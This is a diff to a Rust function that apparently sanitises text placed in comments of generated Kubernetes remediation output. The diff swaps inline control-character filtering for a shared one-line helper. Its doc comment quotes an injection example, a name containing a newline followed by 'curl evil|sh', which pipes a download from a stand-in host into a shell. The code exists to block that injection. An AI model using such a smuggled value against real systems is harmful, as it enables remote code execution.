@@ -48,11 +48,7 @@ impl RemediationFormat {
 /// so a name from a state file (a RoleBinding may be called `x\ncurl evil|sh`) cannot end the
 /// comment and become a command or a manifest. YAML also breaks lines at U+0085, U+2028, U+2029.
 pub fn comment(prefix: &str, text: &str) -> String {
-    let safe: String = text
-        .chars()
-        .map(|c| if c.is_control() || matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}') { '\u{fffd}' } else { c })
-        .collect();
-    format!("{prefix}{safe}\n")
+    format!("{prefix}{}\n", crate::model::text::one_line(text))
 }
 
 /// A remediation that cannot be written.
